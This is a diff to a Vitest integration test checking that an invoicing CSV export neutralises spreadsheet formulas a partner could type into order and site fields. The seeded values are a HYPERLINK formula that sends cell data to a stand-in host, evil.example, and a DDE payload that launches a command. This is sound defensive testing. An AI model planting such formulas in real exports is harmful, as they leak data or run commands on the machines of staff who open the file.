@@ -1,5 +1,5 @@
 import Stripe from "stripe";
-import { beforeAll, describe, expect, inject, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import { HttpClient, queryApp } from "../support/http-client.ts";
 
 // Finance runs a partner's invoice over HTTP, the worker issues it through the
@@ -29,6 +29,17 @@ beforeAll(async () => {
      ORDER BY i."startsAt" DESC LIMIT 1`,
   );
   target = row!;
+  // What a partner may type on the order form and the site form, waiting in the lines export for finance's spreadsheet.
+  await queryApp(`UPDATE "ServiceRequest" SET "purchaseOrderNumber" = $1 WHERE "organisationId" = $2`, [HOSTILE_PO, target.organisationId]);
+  siteNames = await queryApp<{ id: string; name: string }>(`SELECT id, name FROM "Site" WHERE "organisationId" = $1`, [target.organisationId]);
+  await queryApp(`UPDATE "Site" SET name = $1 WHERE "organisationId" = $2`, [HOSTILE_SITE, target.organisationId]);
+});
+
+const HOSTILE_PO = '=HYPERLINK("http://evil.example/?"&A1,"BC 42")';
+const HOSTILE_SITE = "@SUM(1+1)*cmd|' /C calc'!A0; quai";
+let siteNames: { id: string; name: string }[] = [];
+afterAll(async () => {
+  for (const site of siteNames) await queryApp(`UPDATE "Site" SET name = $1 WHERE id = $2`, [site.name, site.id]);
 });
 
 async function runStep(step: "prepare" | "issue") {
@@ -111,6 +122,11 @@ describe("invoicing over HTTP, through the Stripe double", () => {
     expect(csv).toMatch(/F\d{4}-\d{5}/);
     const lines = await (await finance.get(`/finance/export.csv?what=lines&year=${year}`)).text();
     expect(lines.split("\r\n").length).toBeGreaterThan(2);
+    // The partner's purchase-order number and site name arrive neutralised: text, never a formula.
+    expect(lines).toContain(`"'${HOSTILE_PO.replace(/"/g, '""')}"`);
+    expect(lines).toContain(`· ${HOSTILE_SITE} ·`);
+    const cells = lines.split("\r\n").flatMap((line) => line.split(";")).map((cell) => cell.replace(/^"/, ""));
+    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(,\d+)?$)/.test(cell))).toEqual([]);
     const partner = await new HttpClient().login("agent@sncf.example");
     expect((await partner.get(`/finance/export.csv?what=invoices&year=${year}`)).status).toBe(403);
     expect(await queryApp(`SELECT 1 FROM "AuditLog" WHERE action = 'invoicing.exported'`)).not.toHaveLength(0);
